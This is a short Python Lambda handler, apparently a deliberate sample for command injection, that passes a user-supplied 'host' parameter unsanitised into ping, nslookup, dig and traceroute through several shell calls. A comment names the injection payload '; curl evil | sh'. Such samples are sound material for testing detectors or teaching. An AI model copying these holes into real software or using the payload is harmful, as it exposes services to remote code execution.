import os
import subprocess as sp
from subprocess import Popen


def lambda_handler(event, context):
    host = event["queryStringParameters"]["host"]
    # Classic: a ping tool that lets the caller append "; curl evil | sh".
    result = sp.run(f"ping -c 1 {host}", shell=True, capture_output=True)
    os.system("nslookup " + host)
    Popen("dig %s" % host, shell=True)
    sp.run(["sh", "-c", "traceroute " + host])
    return {"statusCode": 200, "body": result.stdout.decode()}
